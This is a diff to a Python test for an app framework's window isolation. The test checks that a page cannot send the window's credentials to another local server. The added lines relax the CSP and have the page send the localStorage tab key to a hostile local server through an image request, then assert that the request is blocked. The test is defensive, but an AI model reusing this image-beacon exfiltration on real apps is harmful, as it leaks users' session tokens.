@@ -327,7 +327,8 @@ def test_a_page_cannot_take_the_windows_credentials_to_another_local_server(
     there with the session cookie, and a process behind that server then fetched a page and,
     under isolation, a key of its own (found by an attacker). No page of the window loads from a
     port of 127.0.0.1 that is not the app's, by a script or a link (a form's post is the
-    CSP's: form-action 'self')."""
+    CSP's: form-action 'self'), and none of its requests go there, even where the app's CSP
+    would let them (images from anywhere, here)."""
     got: list[str] = []
 
     class Hostile(BaseHTTPRequestHandler):
@@ -344,8 +345,12 @@ def test_a_page_cannot_take_the_windows_credentials_to_another_local_server(
     threading.Thread(target=hostile.serve_forever, daemon=True).start()
     there = f"http://127.0.0.1:{hostile.server_address[1]}"
     refused = re.escape(f"window 'main': a page's load of {there} was refused")
+    config = brownfield_config(app_dir)
+    data = json.loads(config.read_text())
+    data["app"]["security"]["csp"] = "default-src 'self'; img-src *"
+    config.write_text(json.dumps(data))
     try:
-        with open_window(brownfield_config(app_dir), playwright=playwright) as window:
+        with open_window(config, playwright=playwright) as window:
             page = window.page("main")
             address = page.url
             page.evaluate("""(there) => {
@@ -360,6 +365,11 @@ def test_a_page_cannot_take_the_windows_credentials_to_another_local_server(
                 link.click();
             }""", there)
             wait_for_log(window.log, refused, count=2)
+            page.evaluate("""(there) => {
+                new Image().src = there + '/image?tab=' + localStorage.getItem('__app_tab:main');
+            }""", there)
+            wait_for_log(window.log, re.escape(f"window 'main': a page's request to {there} was "
+                                              "blocked"))
             assert got == []
             assert page.url == address
             assert page.evaluate("window.__APP__.core.invoke('greet', {name: 'Qt'})") == (
